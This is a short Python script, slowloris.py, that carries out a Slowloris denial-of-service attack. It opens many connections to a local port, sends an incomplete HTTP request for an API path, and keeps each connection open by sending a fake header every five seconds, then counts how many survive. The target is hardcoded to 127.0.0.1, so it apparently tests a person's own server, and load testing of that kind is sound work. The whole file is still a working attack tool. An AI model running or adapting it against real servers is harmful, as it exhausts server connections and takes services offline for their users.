"""Open N connections that send half a request line and a byte every few seconds.
usage: slowloris.py PORT N SECONDS"""
import socket, sys, time, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
port, n, secs = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
socks = []
for i in range(n):
    try:
        s = socket.create_connection(('127.0.0.1', port), timeout=5)
        s.send(b'GET /api/models/DeepBeepMeep/Wan2.1 HTTP/1.1\r\nHost: x\r\n')
        socks.append(s)
    except OSError as e:
        print('connect', i, e); break
print('open', len(socks), flush=True)
end = time.time() + secs
while time.time() < end:
    time.sleep(5)
    for s in socks:
        try: s.send(b'X-a: b\r\n')
        except OSError: pass
alive = 0
for s in socks:
    try: s.send(b'X-a: b\r\n'); alive += 1
    except OSError: pass
print('still open', alive)
